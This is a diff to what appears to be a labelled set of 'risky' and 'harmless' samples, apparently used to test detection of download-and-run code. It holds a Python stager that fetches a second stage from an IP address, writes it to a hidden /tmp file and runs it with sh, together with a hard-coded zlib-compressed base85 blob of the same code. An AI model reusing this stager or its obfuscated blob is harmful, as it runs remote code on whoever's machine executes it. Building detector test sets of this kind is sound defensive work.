@@ -10,9 +10,13 @@ R, H = "risky", "harmless"
 _STAGE = ("import urllib.request,subprocess\n"
           "b=urllib.request.urlopen('https://203.0.113.14/stage2').read()\n"
           "open('/tmp/.s2','wb').write(b)\nsubprocess.run(['sh','/tmp/.s2'])\n")
-BLOB = base64.b85encode(zlib.compress(_STAGE.encode(), 9)).decode()
+# The two blobs below are base85/base64 of zlib level 9 of _STAGE and _TABLE, written out as
+# literals so the set does not depend on the zlib build (zlib-ng compresses differently).
+BLOB = "c-mFXK?=hl5QX8rr|3?FFh<i=p(hDl#B^wcB-)vgT)#q~rOU_v!Ao1oB$rC-nj#RsE3$N4W1&1Fvx@is25shoyU~kC;hS@zAD{>C2k=+NGQBWp+xYY}R-M$zRvd89ojziV2PHuht@<4S)!mGmmu9~FVburK=rtS"
 _TABLE = "code,name\nAT,Austria\nBE,Belgium\nCZ,Czechia\nDE,Germany\n"
-TABLE_BLOB = base64.b64encode(zlib.compress(_TABLE.encode(), 9)).decode()
+TABLE_BLOB = "eNpLzk9J1clLzE3lcgzRcSwtLinKTORyctVxSs1JzyzN5XKO0nGuSk3OAIq6uOq4pxblJuZVcgEA7JcRtQ=="
+assert zlib.decompress(base64.b85decode(BLOB)).decode() == _STAGE
+assert zlib.decompress(base64.b64decode(TABLE_BLOB)).decode() == _TABLE
 
 DL_RUN = [
     S(R, "PowerShell downloads a script string and runs it through ScriptBlock::Create",
